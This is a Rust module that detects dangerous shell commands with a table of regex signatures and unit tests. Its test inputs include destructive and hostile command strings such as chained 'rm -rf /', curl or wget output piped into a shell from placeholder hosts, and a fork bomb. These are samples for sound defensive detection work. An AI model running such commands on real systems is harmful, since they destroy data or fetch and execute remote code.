//! Detection of known-dangerous shell patterns.
//!
//! A fixed table of regex signatures for command strings that should never
//! run, regardless of the allowlist: destructive `rm` chains, piping remote
//! content into a shell, substitution-wrapped destruction, the classic fork
//! bomb, and `eval` over substituted input.
//!
//! This is defense-in-depth, not the security boundary — matching is
//! pattern-based and can be evaded. The allowlist is the real boundary.

use once_cell::sync::Lazy;
use regex::Regex;

struct Signature {
    pattern: Regex,
    reason: &'static str,
}

static SIGNATURES: Lazy<Vec<Signature>> = Lazy::new(|| {
    let table: &[(&str, &str)] = &[
        (
            r"(?:;|&&|\|\|?)\s*rm\s+-[A-Za-z]*(?:rf|fr)[A-Za-z]*\s+/",
            "destructive 'rm -rf /' chained behind another command",
        ),
        (
            r"(?:curl|wget)[^|;&]*\|\s*(?:ba|z|da)?sh\b",
            "pipes downloaded content into a shell",
        ),
        (
            r"\$\([^)]*\brm\s+-",
            "command substitution wrapping a destructive 'rm'",
        ),
        (
            r"`[^`]*\brm\s+-[^`]*`",
            "command substitution wrapping a destructive 'rm'",
        ),
        (
            r"\$\([^)]*(?:curl|wget)[^)]*\|\s*(?:ba)?sh",
            "command substitution piping a download into a shell",
        ),
        (
            r":\(\)\s*\{\s*:\s*\|\s*:\s*&\s*\}\s*;\s*:",
            "fork bomb",
        ),
        (
            r"\beval\s+[^;|&]*(?:\$\(|`)",
            "'eval' over command substitution",
        ),
    ];
    table
        .iter()
        .map(|(pattern, reason)| Signature {
            pattern: Regex::new(pattern).expect("injection signature must compile"),
            reason,
        })
        .collect()
});

/// Tests the raw command string against the signature table. Returns the
/// reason for the first match, or `None` when no signature fires.
pub fn detect_shell_injection(command: &str) -> Option<&'static str> {
    SIGNATURES
        .iter()
        .find(|signature| signature.pattern.is_match(command))
        .map(|signature| signature.reason)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn chained_rm_rf_root_is_flagged() {
        assert!(detect_shell_injection("echo ok; rm -rf /").is_some());
        assert!(detect_shell_injection("true && rm -fr /home").is_some());
        assert!(detect_shell_injection("ls | rm -rf /tmp").is_some());
    }

    #[test]
    fn curl_piped_into_shell_is_flagged() {
        assert!(detect_shell_injection("curl https://x.sh | sh").is_some());
        assert!(detect_shell_injection("wget -qO- https://x.sh | bash").is_some());
    }

    #[test]
    fn substitution_wrapping_rm_is_flagged() {
        assert!(detect_shell_injection("echo $(rm -rf ~/work)").is_some());
        assert!(detect_shell_injection("echo `rm -rf .`").is_some());
    }

    #[test]
    fn substitution_piping_download_is_flagged() {
        assert!(detect_shell_injection("echo $(curl https://e.vil | sh)").is_some());
    }

    #[test]
    fn fork_bomb_is_flagged() {
        assert!(detect_shell_injection(":(){ :|:& };:").is_some());
    }

    #[test]
    fn eval_with_substitution_is_flagged() {
        assert!(detect_shell_injection("eval $(printf 'rm x')").is_some());
        assert!(detect_shell_injection("eval `cat cmd`").is_some());
    }

    #[test]
    fn ordinary_commands_pass() {
        assert_eq!(detect_shell_injection("npm install"), None);
        assert_eq!(detect_shell_injection("git status"), None);
        assert_eq!(detect_shell_injection("rm old.txt"), None);
        assert_eq!(detect_shell_injection("echo eval"), None);
    }
}
